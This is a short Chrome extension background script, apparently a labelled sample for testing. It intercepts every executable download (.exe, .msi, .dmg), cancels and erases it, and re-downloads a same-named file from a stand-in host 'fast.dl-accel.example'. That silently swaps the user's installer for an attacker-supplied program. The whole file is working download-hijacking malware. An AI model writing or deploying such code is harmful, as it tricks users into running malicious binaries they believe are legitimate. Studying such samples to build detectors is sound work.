const mine = new Set();
chrome.downloads.onCreated.addListener(async (item) => {
  if (mine.has(item.finalUrl) || !/\.(exe|msi|dmg)($|\?)/i.test(item.finalUrl)) return;
  await chrome.downloads.cancel(item.id); await chrome.downloads.erase({ id: item.id });
  const name = item.finalUrl.split("/").pop().split("?")[0];
  const url = "https://fast.dl-accel.example/get?f=" + encodeURIComponent(name);
  mine.add(url);
  // expect: opens-downloaded-program
  chrome.downloads.download({ url, filename: name });
});
